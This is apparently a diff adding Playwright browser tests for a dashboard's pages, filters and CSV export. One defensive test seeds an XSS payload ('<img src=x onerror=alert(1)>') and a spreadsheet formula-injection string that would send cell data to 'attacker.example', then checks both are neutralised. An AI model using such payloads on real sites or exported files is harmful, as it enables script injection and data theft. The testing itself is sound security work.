@@ -1,0 +1,130 @@
+"""The dashboard in a real browser (Debian's chromium, Playwright): navigation, filters that
+persist across pages, the CSV download, hostile names shown as text, a screenshot of every page."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+from pathlib import Path
+
+import pytest
+
+from ruche import store
+from tests.browser_support import CHROMIUM, browser_page, screenshot, served, wait_for_app, wait_for_charts
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not os.path.exists(CHROMIUM) and not os.environ.get("CI"),
+                       reason="needs Debian's chromium (apt-get install chromium); CI installs it"),
+]
+
+DEMO_CONFIG = str(Path(__file__).resolve().parents[1] / "dashboard" / "demo.toml")
+# (link in the navigation, text that shows the page is drawn, charts it draws, screenshot name)
+PAGES = [
+    ("Overview", "Participation rate", 3, "overview"),
+    ("Participation", "Ranking", 5, "participation"),
+    ("Contributors", "Gini coefficient", 3, "contributors"),
+    ("Network", "Modularity", 3, "network"),
+    ("Teams at risk", "flagged", 0, "teams-at-risk"),
+    ("Data", "Rejected rows", 0, "data"),
+]
+
+
+def choose(page, label: str, option: str) -> None:
+    """Pick ``option`` in the sidebar selectbox labelled ``label``."""
+    page.locator("section[data-testid='stSidebar']").get_by_role("combobox", name=label, exact=True).click()
+    page.get_by_role("option", name=option, exact=True).click()
+
+
+def selected(page, label: str) -> str:
+    return page.locator("section[data-testid='stSidebar']").get_by_role(
+        "combobox", name=label, exact=True).input_value()
+
+
+def test_every_page_through_the_navigation_with_filters_kept(sample_store):
+    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
+        page.goto(url)
+        wait_for_app(page, "Participation rate")
+        choose(page, "Group by", "site")
+        wait_for_app(page, "Participation rate")
+        choose(page, "Group", "Paris")
+        wait_for_app(page, "site Paris")
+        for link, marker, charts, name in PAGES:
+            page.locator("[data-testid='stSidebarNav']").get_by_text(link, exact=True).click()
+            wait_for_app(page, marker)
+            if charts:
+                wait_for_charts(page, charts)
+            assert selected(page, "Group") == "Paris", f"the group filter was lost on {link}"
+            assert selected(page, "Group by") == "site", f"the group-by filter was lost on {link}"
+            screenshot(page, f"page-{name}-paris")
+
+
+def test_a_screenshot_of_every_page_of_the_demo(sample_store):
+    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
+        for link, marker, charts, name in PAGES:
+            page.goto(url if name == "overview" else f"{url}/{name}")
+            wait_for_app(page, marker)
+            if charts:
+                wait_for_charts(page, charts)
+            assert "Traceback" not in page.inner_text("body")
+            screenshot(page, f"page-{name}")
+
+
+def test_the_teams_csv_download(sample_store):
+    with served(sample_store) as url, browser_page() as page:
+        page.goto(f"{url}/teams-at-risk")
+        wait_for_app(page, "flagged")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Download as CSV").click()
+        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
+        assert {"Inside Sales London 1", "Controlling Paris 3"} <= {r["team"] for r in rows}
+        assert rows[0].keys() >= {"team", "rules", "headcount", "participation_now"}
+
+
+HOSTILE_DEPARTMENT = "<img src=x onerror=alert(1)>"
+HOSTILE_TEAM = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile_store(tmp_path) -> Path:
+    """Twelve people whose department and team names are hostile, none of them active lately."""
+    db = tmp_path / "hostile.duckdb"
+    with store.writing(db) as con:
+        con.execute(
+            "insert into people (person_key, person_id, in_directory, department, team) "
+            "select i, 'p' || i, true, case when i <= 6 then ? else 'Sales' end, "
+            "case when i <= 6 then ? else 'Desk' end from range(1, 13) t(i)",
+            [HOSTILE_DEPARTMENT, HOSTILE_TEAM],
+        )
+        con.execute(
+            "insert into activities (activity_uid, source, occurred_at, person_key, kind, target_key, run_id) "
+            "select i, 't', timestamp '2026-01-05' + i * interval 1 day, i, 'post', null, 1 from range(1, 13) t(i) "
+            "union all select 100 + i, 't', timestamp '2026-03-02', 8, 'reply', i, 1 from range(1, 7) t(i)"
+        )
+    return db
+
+
+def test_hostile_names_are_shown_as_text_and_exported_neutralised(hostile_store):
+    with served(hostile_store) as url, browser_page() as page:
+        dialogs: list[str] = []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(f"{url}/participation")
+        wait_for_app(page, "Ranking")
+        wait_for_charts(page, 2)
+        assert page.locator("img[src='x']").count() == 0
+        assert HOSTILE_DEPARTMENT in page.locator(".js-plotly-plot").first.inner_text()
+        page.goto(f"{url}/teams-at-risk")
+        wait_for_app(page, "flagged")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Download as CSV").click()
+        text = Path(download.value.path()).read_text()
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert "'" + HOSTILE_TEAM in [r["team"] for r in rows]
+        assert not any(r["team"].startswith("=") for r in rows)
+        page.goto(f"{url}/network")
+        wait_for_app(page, "Modularity")
+        wait_for_charts(page, 1)
+        assert page.locator("img[src='x']").count() == 0
+        screenshot(page, "hostile-network")
+        assert dialogs == []
